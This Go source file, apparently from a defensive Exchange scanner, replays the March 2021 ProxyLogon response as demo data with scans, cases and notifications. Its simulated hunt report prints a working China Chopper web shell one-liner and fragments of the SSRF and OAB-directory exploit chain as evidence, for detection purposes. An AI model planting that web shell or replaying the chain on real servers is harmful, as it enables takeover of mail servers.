package lab

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"

	"github.com/exsweep/exsweep/internal/hunt"
	"github.com/exsweep/exsweep/internal/notify"
	"github.com/exsweep/exsweep/internal/store"
)

// ReplayOptions tunes Replay.
type ReplayOptions struct {
	// Seed makes the simulation deterministic (same seed, same data).
	Seed uint64
	// Scale multiplies the published counts; 0 means 1/400 (about 1,000
	// Exchange endpoints for the 400,000 of March 2021).
	Scale float64
}

// ReplayPoint is one published count of the March 2021 response: how many
// Exchange servers were still vulnerable worldwide (RiskIQ/Microsoft
// telemetry; shared/research/notify.md §3.6, shared/data/march-2021-curve.csv).
type ReplayPoint struct {
	Date       time.Time
	Vulnerable int
}

// March2021Universe is the number of Exchange servers exposed on 1 March 2021.
const March2021Universe = 400000

// March2021Curve is the published curve. 22 March is "under 30,000" (92%
// patched or mitigated); 29,000 is used.
var March2021Curve = []ReplayPoint{
	{day(1), 400000}, {day(9), 100000}, {day(12), 82000}, {day(14), 69548}, {day(22), 29000},
}

// March2021RunDates are the simulated scan runs: the published dates and
// a few in between, so the curve has its shape.
var March2021RunDates = []time.Time{day(1), day(3), day(5), day(9), day(12), day(14), day(17), day(22)}

func day(d int) time.Time { return time.Date(2021, 3, d, 6, 0, 0, 0, time.UTC) }

// March2021Vulnerable interpolates the published curve at t, log-linearly
// between published points (patching decays roughly exponentially).
func March2021Vulnerable(t time.Time) float64 {
	c := March2021Curve
	if !t.After(c[0].Date) {
		return float64(c[0].Vulnerable)
	}
	for i := 1; i < len(c); i++ {
		if !t.After(c[i].Date) {
			a, b := c[i-1], c[i]
			f := t.Sub(a.Date).Hours() / b.Date.Sub(a.Date).Hours()
			return math.Exp(math.Log(float64(a.Vulnerable)) + f*(math.Log(float64(b.Vulnerable))-math.Log(float64(a.Vulnerable))))
		}
	}
	return float64(c[len(c)-1].Vulnerable)
}

// replayBuild is a build a replayed endpoint runs before and after its
// March 2021 security update.
type replayBuild struct {
	product, cu, vulnerable, patched string
	weight                           int
}

// Builds of the time (learn.microsoft.com build numbers; Mar21SU).
var replayBuilds = []replayBuild{
	{"Exchange 2016", "CU19", "15.1.2176.2", "15.1.2176.9", 30},
	{"Exchange 2016", "CU18", "15.1.2106.2", "15.1.2106.13", 15},
	{"Exchange 2019", "CU8", "15.2.792.3", "15.2.792.10", 20},
	{"Exchange 2019", "CU7", "15.2.721.2", "15.2.721.13", 10},
	{"Exchange 2013", "CU23", "15.0.1497.2", "15.0.1497.12", 25},
}

var proxyLogonCVEs = []struct{ id, name string }{
	{"CVE-2021-26855", "ProxyLogon"}, {"CVE-2021-26857", "ProxyLogon"},
	{"CVE-2021-26858", "ProxyLogon"}, {"CVE-2021-27065", "ProxyLogon"},
}

// The record shape of internal/scan.Record (lab cannot import scan: scan's
// tests import lab). A test decodes these into scan.Record.
type replayRecord struct {
	Target     string           `json:"target"`
	IP         string           `json:"ip"`
	Port       int              `json:"port"`
	Hostname   string           `json:"hostname,omitempty"`
	Exchange   bool             `json:"exchange"`
	Product    string           `json:"product,omitempty"`
	Build      string           `json:"build,omitempty"`
	BuildExact bool             `json:"build_exact"`
	CU         string           `json:"cu,omitempty"`
	Update     string           `json:"update,omitempty"`
	Verdict    string           `json:"verdict"`
	CVEs       []replayCVE      `json:"cves"`
	Evidence   []replayEvidence `json:"evidence"`
	TLS        *replayTLS       `json:"tls,omitempty"`
	Webshells  []replayWebshell `json:"webshells"`
	Requests   int              `json:"requests"`
	ObservedAt time.Time        `json:"observed_at"`
}

type replayCVE struct {
	ID    string `json:"id"`
	Name  string `json:"name"`
	State string `json:"state"`
}

type replayEvidence struct {
	Technique string `json:"technique"`
	Path      string `json:"path,omitempty"`
	Status    int    `json:"status,omitempty"`
	Value     string `json:"value,omitempty"`
}

type replayTLS struct {
	Version string `json:"version"`
	Cipher  string `json:"cipher"`
	Subject string `json:"subject,omitempty"`
	Issuer  string `json:"issuer,omitempty"`
}

type replayWebshell struct {
	Path   string `json:"path"`
	Status int    `json:"status"`
	Size   int    `json:"size"`
	SHA256 string `json:"sha256"`
	Reason string `json:"reason"`
}

// replayHost is one simulated Exchange server.
type replayHost struct {
	ep       netip.AddrPort
	org      string // "" unowned
	hostname string
	build    replayBuild
	// patchRank orders patching: the host is patched once fewer than
	// universe-patchRank hosts are to stay vulnerable.
	patchRank int
	// undetermined: only the CU leaks (no exact build), so no verdict.
	undetermined bool
	// shellFrom/shellUntil: run indexes between which a web shell answers
	// (shellFrom < 0: never compromised).
	shellFrom, shellUntil int
	vulnCase, shellCase   int64
}

// Replay fills an empty store with a simulated response. The only scenario
// is "march-2021": scan runs from 1 to 22 March 2021 whose vulnerable
// counts follow the published worldwide curve times opts.Scale,
// organisations, cases opened by the first run and remediated as the curve
// falls, web shells on some servers, and notifications sent with tickets.
//
// Times of observations and case changes are March 2021; run start times,
// ticket numbers and the "notified" entries written by the outbox carry
// the store's clock (the store sets them).
func Replay(ctx context.Context, st *store.Store, scenario string, opts ReplayOptions) error {
	if scenario != "march-2021" {
		return fmt.Errorf("replay: unknown scenario %q (known: march-2021)", scenario)
	}
	if runs, err := st.ListRuns(ctx, 1); err != nil {
		return err
	} else if len(runs) > 0 {
		return errors.New("replay: the store already has scan runs; replay into a new database")
	}
	scale := opts.Scale
	if scale <= 0 {
		scale = 1.0 / 400
	}
	universe := int(math.Round(March2021Universe * scale))
	if universe < 10 {
		return fmt.Errorf("replay: scale %g leaves %d servers (need 10)", scale, universe)
	}
	rng := rand.New(rand.NewPCG(opts.Seed, 0x6d617263682d3231))
	// The store dates runs, case changes and messages by this clock, so the
	// dashboard shows March 2021 throughout, not the day of the replay.
	clock := March2021RunDates[0]
	st.SetClock(func() time.Time { return clock })
	defer st.SetClock(nil)

	// Organisations: about one per 25 servers; a tenth of the servers
	// belong to nobody (only their AS is known).
	nOrgs := max(3, universe/25)
	orgs := make([]store.Organisation, nOrgs)
	for i := range orgs {
		key := fmt.Sprintf("org-%03d", i+1)
		orgs[i] = store.Organisation{Key: key, Name: orgName(i), To: []string{"abuse@" + key + ".example"}, Language: "en"}
	}
	if err := st.UpsertOrganisations(ctx, orgs); err != nil {
		return err
	}

	// A random order of the universe decides who patches first; about 3%
	// extra servers only leak their CU (undetermined throughout).
	extra := max(1, universe*3/100)
	hosts := make([]*replayHost, universe+extra)
	perm := rng.Perm(universe)
	for i := range hosts {
		h := &replayHost{
			ep:        netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18 + byte(i>>16), byte(i >> 8), byte(i)}), 443),
			build:     pickBuild(rng),
			shellFrom: -1,
		}
		if i < universe {
			h.patchRank = perm[i]
		} else {
			h.undetermined = true
		}
		if rng.IntN(10) != 0 {
			h.org = orgs[rng.IntN(nOrgs)].Key
			h.hostname = fmt.Sprintf("mail%d.%s.example", i, h.org)
		} else {
			h.hostname = fmt.Sprintf("owa%d.customer.example", i)
		}
		// About 7% get a web shell between the 3rd and the 5th of March
		// (the mass exploitation); a third of those are cleaned later.
		if rng.IntN(100) < 7 {
			h.shellFrom = 1 + rng.IntN(2)
			h.shellUntil = len(March2021RunDates)
			if rng.IntN(3) == 0 {
				h.shellUntil = h.shellFrom + 2 + rng.IntN(4)
			}
		}
		hosts[i] = h
	}

	notifiedAfter := 1 // messages go out after the second run
	for ri, date := range March2021RunDates {
		target := int(math.Round(March2021Vulnerable(date) * scale))
		clock = date
		runID, err := st.CreateRun(ctx, store.RunInfo{Args: []string{"lab", "--replay", scenario}, KBDate: "2021-03-02", TargetsTotal: int64(len(hosts))})
		if err != nil {
			return err
		}
		w := st.NewObservationWriter(runID, store.BatchOptions{})
		var upserts []store.CaseInput
		var trans []store.CaseTransition
		for i, h := range hosts {
			at := date.Add(time.Duration(i) * 500 * time.Millisecond)
			vulnerable := !h.undetermined && h.patchRank >= universe-target
			shell := h.shellFrom >= 0 && ri >= h.shellFrom && ri < h.shellUntil
			o, err := h.observation(at, vulnerable, shell)
			if err != nil {
				return err
			}
			if err := w.Add(ctx, o); err != nil {
				w.Close(ctx)
				return err
			}
			in := store.CaseInput{OrgKey: h.org, ASN: 64500 + uint32(i%20), ASName: fmt.Sprintf("EXAMPLE-AS-%d", i%20),
				Country: replayCountries[i%20], Endpoint: h.ep, Hostname: h.hostname, RunID: runID, ObservedAt: at, Actor: "lab replay"}
			switch {
			case vulnerable:
				in.Problem = store.ProblemVulnerable
				for _, c := range proxyLogonCVEs {
					in.CVEs = append(in.CVEs, c.id)
				}
				in.Severity = notify.Severity(notify.ProblemVulnerable, len(in.CVEs))
				upserts = append(upserts, in)
			case h.vulnCase != 0:
				trans = append(trans, store.CaseTransition{CaseID: h.vulnCase, To: store.CaseRemediated,
					Reason: "rescan: security update installed", Actor: "lab replay", At: at, RunID: runID})
				h.vulnCase = 0
			}
			if shell {
				sin := in
				sin.Problem, sin.Severity, sin.CVEs = store.ProblemCompromised, notify.Severity(notify.ProblemCompromised, 0), nil
				upserts = append(upserts, sin)
			} else if h.shellCase != 0 {
				trans = append(trans, store.CaseTransition{CaseID: h.shellCase, To: store.CaseRemediated,
					Reason: "rescan: web shell gone", Actor: "lab replay", At: at, RunID: runID})
				h.shellCase = 0
			}
		}
		if err := w.Close(ctx); err != nil {
			return err
		}
		clock = date.Add(time.Duration(len(hosts)) * 500 * time.Millisecond)
		if err := st.FinishRun(ctx, runID, store.StatusDone, nil); err != nil {
			return err
		}
		if err := applyCases(ctx, st, hosts, upserts, trans); err != nil {
			return err
		}
		if ri == notifiedAfter {
			clock = clock.Add(time.Hour) // the messages go out an hour after the run
			if err := sendReplayMessages(ctx, st, orgs, rng, clock); err != nil {
				return err
			}
		}
	}
	return importReplayHunts(ctx, st, hosts, &clock)
}

// replayHunts is how many compromised servers get a (simulated) hunt
// report, so the demo's endpoint pages show findings and a timeline.
const replayHunts = 3

// importReplayHunts stores a simulated exsweep hunt report for the first
// few compromised servers, dated like their compromise: the HttpProxy SSRF,
// the OAB virtual directory change and the web shell of the March 2021 chain.
func importReplayHunts(ctx context.Context, st *store.Store, hosts []*replayHost, clock *time.Time) error {
	n := 0
	for i, h := range hosts {
		if h.shellFrom < 0 || n == replayHunts {
			continue
		}
		n++
		at := March2021RunDates[h.shellFrom].Add(-20 * time.Hour).Add(time.Duration(i%3600) * time.Second)
		shell := fmt.Sprintf("C:/inetpub/wwwroot/aspnet_client/system_web/%08x.aspx", uint32(i)*2654435761)
		rep := hunt.Report{Host: strings.ToUpper(strings.SplitN(h.hostname, ".", 2)[0]), Root: "(lab replay: simulated)",
			Started: clock.Add(time.Hour), Finished: clock.Add(time.Hour + 3*time.Minute), Verdict: hunt.VerdictCompromised,
			Summary: fmt.Sprintf("COMPROMISED: web shell %s written %s after SSRF from 203.0.113.45 (simulated)", shell, at.Add(4*time.Minute).Format(time.RFC3339)),
			Findings: []hunt.Finding{
				{ID: "F0001", Check: "webshell-china-chopper", Title: "China Chopper web shell", Severity: "critical", Grade: hunt.GradeBackdoor,
					Time: at.Add(4 * time.Minute), Path: shell, CVE: []string{"CVE-2021-27065"},
					Evidence: `<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>`,
					Guidance: "Take a forensic copy, then follow Microsoft's ProxyLogon guidance; patching does not remove it."},
				{ID: "F0002", Check: "httpproxy-ssrf", Title: "SSRF through /ecp/ to the back end (CVE-2021-26855)", Severity: "high",
					Grade: hunt.GradeExploited, Time: at, Path: "Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG", Line: 1187,
					CVE: []string{"CVE-2021-26855"}, Client: "203.0.113.45",
					Evidence: "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=…"},
				{ID: "F0003", Check: "oab-vdir-externalurl", Title: "OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)",
					Severity: "high", Grade: hunt.GradeExploited, Time: at.Add(3 * time.Minute), Path: "Exchange/Logging/ECP/Server/ECPServer_2021030301-1.LOG",
					CVE: []string{"CVE-2021-27065"}, Evidence: "Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">…'"},
			},
			Timeline: []hunt.Event{
				{Time: at, Source: "httpproxy/Ecp", Path: "Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG", Line: 1187,
					Grade: hunt.GradeExploited, Finding: "F0002", Client: "203.0.113.45", What: "POST /ecp/y.js with X-BEResource cookie to the back end"},
				{Time: at.Add(3 * time.Minute), Source: "ecp", Path: "Exchange/Logging/ECP/Server/ECPServer_2021030301-1.LOG",
					Grade: hunt.GradeExploited, Finding: "F0003", What: "Set-OabVirtualDirectory -ExternalUrl with a script"},
				{Time: at.Add(4 * time.Minute), Source: "file", Path: shell, Grade: hunt.GradeBackdoor, Finding: "F0001",
					What: "web shell written (file modification time)"},
				{Time: at.Add(40 * time.Minute), Source: "iis", Path: "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", Line: 5521,
					Grade: hunt.GradeBackdoor, Client: "203.0.113.45", What: "POST " + strings.TrimPrefix(shell, "C:/inetpub/wwwroot") + " 200"},
			},
		}
		b, err := json.Marshal(rep)
		if err != nil {
			return err
		}
		if _, err := st.AddHuntReport(ctx, store.HuntReport{Endpoint: h.ep, Verdict: rep.Verdict, Summary: rep.Summary,
			Source: "lab replay (simulated)", Report: b}); err != nil {
			return err
		}
	}
	return nil
}

func orgName(i int) string {
	a := []string{"Northwind", "Contoso", "Fabrikam", "Tailspin", "Litware", "Adatum", "Woodgrove", "Proseware"}
	b := []string{"Municipality", "Hospital", "Law Firm", "Manufacturing", "School District", "Logistics", "Bank", "University"}
	return fmt.Sprintf("%s %s %d", a[i%len(a)], b[(i/len(a))%len(b)], i+1)
}

func pickBuild(rng *rand.Rand) replayBuild {
	total := 0
	for _, b := range replayBuilds {
		total += b.weight
	}
	n := rng.IntN(total)
	for _, b := range replayBuilds {
		if n < b.weight {
			return b
		}
		n -= b.weight
	}
	return replayBuilds[0]
}

// observation is what a scan of h at time at would have stored.
func (h *replayHost) observation(at time.Time, vulnerable, shell bool) (store.Observation, error) {
	ip := h.ep.Addr().String()
	rec := replayRecord{
		Target: ip, IP: ip, Port: int(h.ep.Port()), Hostname: h.hostname, Exchange: true,
		Product: h.build.product, CU: h.build.cu, Requests: 6, ObservedAt: at,
		TLS: &replayTLS{Version: "TLS 1.2", Cipher: "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
			Subject: "CN=" + h.hostname, Issuer: "CN=" + h.hostname},
		Evidence:  []replayEvidence{{Technique: "x-feserver", Path: "/owa/", Status: 302, Value: strings.ToUpper(strings.Split(h.hostname, ".")[0])}},
		Webshells: []replayWebshell{},
	}
	cveState := "undetermined"
	switch {
	case h.undetermined:
		rec.Build, rec.Verdict = h.build.vulnerable[:strings.LastIndexByte(h.build.vulnerable, '.')], "undetermined"
		rec.Evidence = append(rec.Evidence, replayEvidence{Technique: "owa-path-3", Path: "/owa/auth/logon.aspx", Status: 200, Value: rec.Build})
	case vulnerable:
		rec.Build, rec.BuildExact, rec.Verdict, cveState = h.build.vulnerable, true, "vulnerable", "vulnerable"
	default:
		rec.Build, rec.BuildExact, rec.Verdict, rec.Update, cveState = h.build.patched, true, "patched", "Mar21SU", "patched"
	}
	if rec.BuildExact {
		rec.Evidence = append(rec.Evidence, replayEvidence{Technique: "x-owa-version", Path: "/owa/auth/logon.aspx", Status: 200, Value: rec.Build})
	}
	for _, c := range proxyLogonCVEs {
		rec.CVEs = append(rec.CVEs, replayCVE{ID: c.id, Name: c.name, State: cveState})
	}
	if shell {
		path := "/aspnet_client/system_web/" + strings.Split(h.hostname, ".")[0] + ".aspx"
		rec.Webshells = append(rec.Webshells, replayWebshell{Path: path, Status: 200, Size: 1724,
			SHA256: fmt.Sprintf("%064x", h.ep.Addr().As4()), Reason: "China Chopper marker in a page a random name does not return"})
		rec.Evidence = append(rec.Evidence, replayEvidence{Technique: "webshell-path", Path: path, Status: 200})
	}
	raw, err := json.Marshal(rec)
	if err != nil {
		return store.Observation{}, err
	}
	return store.Observation{Target: ip, IP: h.ep.Addr(), Port: h.ep.Port(), Hostname: h.hostname, Exchange: true,
		Product: rec.Product, Build: rec.Build, BuildExact: rec.BuildExact, CU: rec.CU, Update: rec.Update,
		Verdict: rec.Verdict, Record: raw, ObservedAt: at}, nil
}

// applyCases writes one run's case changes and remembers the case ids.
func applyCases(ctx context.Context, st *store.Store, hosts []*replayHost, upserts []store.CaseInput, trans []store.CaseTransition) error {
	res, err := st.UpsertCases(ctx, upserts)
	if err != nil {
		return err
	}
	byEP := make(map[netip.AddrPort]*replayHost, len(hosts))
	for _, h := range hosts {
		byEP[h.ep] = h
	}
	for i, in := range upserts {
		h := byEP[in.Endpoint]
		if in.Problem == store.ProblemVulnerable {
			h.vulnCase = res[i].ID
		} else {
			h.shellCase = res[i].ID
		}
	}
	return st.TransitionCases(ctx, trans)
}

// sendReplayMessages notifies about four in five organisations of their
// open cases: enqueue, claim, mark sent (which moves the cases to notified
// and gives them the ticket), as `exsweep notify send` would.
func sendReplayMessages(ctx context.Context, st *store.Store, orgs []store.Organisation, rng *rand.Rand, now time.Time) error {
	for _, o := range orgs {
		if rng.IntN(5) == 0 {
			continue
		}
		cases, err := st.ListCases(ctx, store.CaseFilter{OrgKey: o.Key, States: []string{store.CaseOpen}})
		if err != nil {
			return err
		}
		if len(cases) == 0 {
			continue
		}
		var ids []int64
		var lines []string
		sev := 0
		for _, c := range cases {
			ids = append(ids, c.ID)
			sev = max(sev, c.Severity)
			lines = append(lines, fmt.Sprintf("%s %s (%s)", c.Endpoint, c.Hostname, c.Problem))
		}
		if _, err := st.EnqueueMessage(ctx, store.Message{OrgKey: o.Key, To: o.To,
			Subject:  fmt.Sprintf("[exsweep] %d vulnerable Microsoft Exchange server(s) in your network", len(cases)),
			BodyText: "Please install the March 2021 security update (KB5000871) and check for web shells:\n\n" + strings.Join(lines, "\n") + "\n",
			CaseIDs:  ids, Severity: sev}); err != nil {
			return err
		}
	}
	for {
		m, ok, err := st.ClaimNext(ctx, now)
		if err != nil {
			return err
		}
		if !ok {
			return nil
		}
		if err := st.MarkSent(ctx, m.ID, fmt.Sprintf("<%s@replay.exsweep.example>", m.Ticket)); err != nil {
			return err
		}
	}
}

// replayCountries is the country of each of the replay's 20 networks: an
// invented spread for the demo, weighted toward the United States and
// Germany (BSI counted about 65,000 vulnerable servers in Germany on 3 March
// 2021), not a published distribution.
var replayCountries = [20]string{"US", "DE", "US", "DE", "GB", "FR", "US", "IT", "DE", "NL",
	"US", "GB", "DE", "FR", "AT", "CH", "US", "IT", "DE", "ES"}
